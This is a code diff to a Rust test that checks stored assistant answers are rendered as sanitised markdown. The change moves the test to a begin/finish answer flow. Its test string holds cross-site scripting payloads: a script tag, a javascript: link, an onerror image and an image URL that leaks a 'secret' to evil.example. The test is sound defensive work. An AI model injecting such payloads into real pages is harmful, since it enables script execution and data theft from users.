@@ -396,12 +396,14 @@ async fn answers_are_sanitised_markdown() {
     let api = api_for(&owner, &server).await;
     let id = new_conversation(&api).await;
     let hostile = "# Result\n\n<script>alert(1)</script>\n\n[click](javascript:alert(1)) and ![x](https://evil.example/leak?q=secret)\n\n<img src=x onerror=alert(1)> **bold** `code`";
-    server
-        .state
-        .store
-        .add_answer(
-            hearth::store::UserId(1),
-            hearth::store::ConversationId(id),
+    let store = &server.state.store;
+    let draft = store
+        .begin_answer(hearth::store::UserId(1), hearth::store::ConversationId(id))
+        .await
+        .unwrap();
+    store
+        .finish_answer(
+            draft.id,
             hearth::store::NewAnswer {
                 content: hostile.into(),
                 status: hearth::store::MessageStatus::Done,
